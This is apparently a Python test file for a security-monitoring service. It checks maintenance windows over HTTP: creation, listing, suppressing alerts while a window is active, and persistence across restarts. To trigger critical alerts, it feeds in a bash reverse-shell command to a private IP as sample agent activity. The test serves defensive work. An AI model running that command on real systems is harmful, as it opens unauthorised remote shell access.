"""Maintenance windows through HTTP (SPEC §19): create/update with defaults and ids, status, the list
with pinning, suppression of alerts and coverage issues while active, resumption after, and state
across a restart."""

from __future__ import annotations

import time
from datetime import datetime, timezone


from anysentry.ops.maintenance import SUPPRESSED_NOTE

TOKEN = "maint-admin-token"
AUTH = {"X-AnySentry-Admin-Token": TOKEN}
REVERSE = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"  # block / critical: incident + event alerts
AGENT = {"classification": "confirmed_agent", "monitored": True}




def now_ms() -> int:
    return time.time_ns() // 1_000_000


def ms(display: str) -> int:
    return int(datetime.strptime(display, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc).timestamp() * 1000)


def tool(ws: str, session: str, command: str = REVERSE, agent: str = "m1"):
    return {"kind": "tool", "command": command, "agentId": agent, "sessionId": session, "workspacePath": ws,
            "attribution": AGENT}


async def ingest(api, *events):
    data = await api.data("POST", "/ingest/events", {"events": list(events)}, expect=201)
    assert data["acceptedEvents"] == len(events), data
    await api.sync()


def alerts_of(api, ws: str) -> list[dict]:
    return [a for a in api.services.ops.alerts.values() if a.get("workspacePath") == ws]


async def windows(api, **body):
    return await api.data("POST", "/maintenance/list", body)


async def test_create_update_defaults_status_and_list(make_api):
    api = await make_api(admin_token=TOKEN)
    status, body = await api.post("/maintenance/windows", {"title": "x"})
    assert status == 401 and body["message"] == "management token required"

    before = now_ms()
    created = await api.data("POST", "/maintenance/windows", {"title": "Node drain", "targetType": "workspace",
                                                              "targetId": "/w", "reason": "CHG-1"}, headers=AUTH, expect=201)
    assert created["windowId"].startswith("mw_") and len(created["windowId"]) == 19
    assert created["status"] == "active" and created["enabled"] is True and created["suppressedAlertCount"] == 0
    assert ms(created["endAt"]) - ms(created["startAt"]) == 3_600_000  # default span: 1 h
    assert ms(created["startAt"]) >= before // 1000 * 1000 - 1000
    assert "T" not in created["createdAt"] and created["labels"] == {}

    # endAt is forced to at least startAt + 60 s; explicit ids are kept (trimmed, ≤ 160)
    start_at = "2030-01-01 00:00:00"
    short = await api.data("POST", "/maintenance/windows", {"windowId": "  mw-explicit  ", "title": "short",
                                                            "startAt": start_at, "endAt": start_at, "targetType": "bogus"},
                           headers=AUTH, expect=201)
    assert short["windowId"] == "mw-explicit" and short["targetType"] == "all" and short["targetId"] == ""
    assert short["endAt"] == "2030-01-01 00:01:00" and short["status"] == "scheduled"
    long_id = "w" * 300
    assert (await api.data("POST", "/maintenance/windows", {"windowId": long_id}, headers=AUTH, expect=201))["windowId"] == "w" * 160

    expired = await api.data("POST", "/maintenance/windows", {"title": "old", "targetType": "collector", "targetId": "c1",
                                                              "startAt": "2020-01-01T00:00:00Z", "endAt": 1577840400},
                             headers=AUTH, expect=201)
    assert expired["status"] == "expired" and expired["endAt"] == "2020-01-01 01:00:00"

    updated = await api.data("PUT", f"/maintenance/windows/{created['windowId']}", {"enabled": False, "note": "paused"},
                             headers=AUTH)
    assert updated["status"] == "disabled" and updated["note"] == "paused" and updated["reason"] == "CHG-1"
    status, body = await api.put("/maintenance/windows/mw_missing", {"enabled": True}, headers=AUTH)
    assert status == 404 and body == {"statusCode": 404, "message": "maintenance window not found", "error": "Not Found"}

    listing = await windows(api)
    assert listing["summary"] == {"totalWindows": 4, "activeWindows": 1, "scheduledWindows": 1, "expiredWindows": 1,
                                  "disabledWindows": 1}
    assert expired["windowId"] not in {w["windowId"] for w in listing["items"]}  # outside last_7d
    assert [w["status"] for w in listing["items"]] == ["active", "scheduled", "disabled"]
    # pinning: the id alone returns exactly that row, across all time
    assert [w["windowId"] for w in (await windows(api, windowId=expired["windowId"]))["items"]] == [expired["windowId"]]
    union = await windows(api, windowId=expired["windowId"], status="scheduled")
    assert [w["windowId"] for w in union["items"]] == [expired["windowId"], "mw-explicit"]
    assert [w["windowId"] for w in (await windows(api, targetType="collector", targetId="c1"))["items"]] == [expired["windowId"]]
    assert [w["title"] for w in (await windows(api, q="node drain"))["items"]] == ["Node drain"]
    assert (await windows(api, limit=1))["total"] == 3 and len((await windows(api, limit=1))["items"]) == 1

    audits = [r for r in api.services.audit.records if r["action"] == "maintenance.window.updated"]
    assert len(audits) == 5 and audits[0]["resourceType"] == "maintenance"


async def test_suppress_then_resume(make_api):
    api = await make_api()
    ws, other = "/maint", "/elsewhere"
    await ingest(api, tool(ws, "s1"), tool(other, "s1"))
    raised = alerts_of(api, ws)
    assert {a["ruleId"] for a in raised} >= {"incident.high_or_critical", "event.critical_block"}
    assert all(a["status"] == "open" for a in raised)
    coverage = await api.data("POST", "/coverage/overview", {"workspacePath": ws})
    assert coverage["issues"] and not any(i.get("suppressedByMaintenance") for i in coverage["issues"])

    # an active window resolves existing matching alerts with the exact note
    window = await api.data("POST", "/maintenance/windows", {"title": "upgrade", "targetType": "workspace",
                                                             "targetId": ws}, expect=201)
    wid = window["windowId"]
    assert window["suppressedAlertCount"] >= 3  # incident, event and coverage alerts of the workspace
    for alert in alerts_of(api, ws):
        assert alert["status"] == "resolved" and alert["note"] == SUPPRESSED_NOTE
    assert all(a["status"] == "open" for a in alerts_of(api, other) if a["ruleId"] != "coverage.issue")

    # while active: new signals are judged and incidents update, but no alert is raised
    await ingest(api, tool(ws, "s2"))
    incidents = await api.data("POST", "/incidents/list", {"workspacePath": ws})
    assert incidents["total"] == 2
    assert not [a for a in alerts_of(api, ws) if a["status"] != "resolved"]
    coverage = await api.data("POST", "/coverage/overview", {"workspacePath": ws})
    assert coverage["issues"] and all(i["suppressedByMaintenance"] and i["maintenanceWindowId"] == wid
                                      and i["maintenanceTitle"] == "upgrade" for i in coverage["issues"])
    assert coverage["summary"]["suppressedIssues"] == len(coverage["issues"]) and coverage["summary"]["issueCount"] == 0
    assert coverage["summary"]["coverageScore"] == 100
    tasks = await api.data("POST", "/remediations/list", {"sourceType": "coverage", "workspacePath": ws})
    assert tasks["total"] == 0  # suppressed issues generate no remediation
    counted = (await windows(api, windowId=wid))["items"][0]
    assert counted["suppressedAlertCount"] > window["suppressedAlertCount"]

    # disabled: the next signal reopens the alerts
    assert (await api.data("PUT", f"/maintenance/windows/{wid}", {"enabled": False}))["status"] == "disabled"
    await ingest(api, tool(ws, "s1"))
    reopened = {a["ruleId"]: a for a in alerts_of(api, ws) if a.get("incidentId") and a["status"] == "open"}
    assert {"incident.high_or_critical", "event.critical_block"} <= set(reopened)
    coverage = await api.data("POST", "/coverage/overview", {"workspacePath": ws})
    assert not any(i.get("suppressedByMaintenance") for i in coverage["issues"])
    assert any(a["ruleId"] == "coverage.issue" and a["status"] == "open" for a in alerts_of(api, ws))


async def test_agent_and_collector_targets_and_timer(make_api):
    api = await make_api()
    await ingest(api, tool("/a", "s1", agent="bot"), tool("/b", "s1", agent="bot"))
    # an agent target "<ws>:<agentId>" only matches that workspace's agent
    await api.data("POST", "/maintenance/windows", {"targetType": "agent", "targetId": "/a:bot"}, expect=201)
    assert all(a["status"] == "resolved" for a in alerts_of(api, "/a"))
    assert any(a["status"] == "open" for a in alerts_of(api, "/b"))

    # a scheduled window does nothing until it starts; the status timer applies it then
    book = api.services.ops.maintenance
    later = await api.data("POST", "/maintenance/windows", {"targetType": "agent", "targetId": "bot",
                                                            "startAt": now_ms() + 3_600_000}, expect=201)
    assert later["status"] == "scheduled" and any(a["status"] == "open" for a in alerts_of(api, "/b"))
    book.get(later["windowId"])["startAt"] = now_ms() - 1000  # time passes
    await api.services.ops.tick("maintenance.status")
    assert all(a["status"] == "resolved" and a["note"] == SUPPRESSED_NOTE for a in alerts_of(api, "/b"))
    assert book.suppressing_window({"agentId": "bot", "workspacePath": "/zzz"}, "incident")["windowId"] == later["windowId"]
    assert book.suppressing_window({"collectorId": "c9"}, "collector") is None
    assert book.active_for_workspace("/a") is None


async def test_windows_survive_restart(make_api, tmp_path, store_database):
    api = await make_api(database=store_database, data_dir=tmp_path / "d")
    created = await api.data("POST", "/maintenance/windows", {"title": "persist me", "targetType": "source",
                                                              "targetId": "src_1", "labels": {"ticket": "CHG-7"},
                                                              "owner": "ops"}, expect=201)
    await api.data("PUT", f"/maintenance/windows/{created['windowId']}", {"note": "kept"})
    await api.services.flush_state()
    await api.services.stop()  # releases the data dir (its write-ahead log) for the next process
    again = await make_api(database=store_database, data_dir=tmp_path / "d")
    [item] = (await windows(again, windowId=created["windowId"]))["items"]
    assert item["title"] == "persist me" and item["note"] == "kept" and item["owner"] == "ops"
    assert item["labels"] == {"ticket": "CHG-7"} and item["status"] == "active"
    assert item["startAt"] == created["startAt"] and item["endAt"] == created["endAt"]
    assert again.services.ops.maintenance.suppressing_window({"sourceId": "src_1"}, "source") is not None
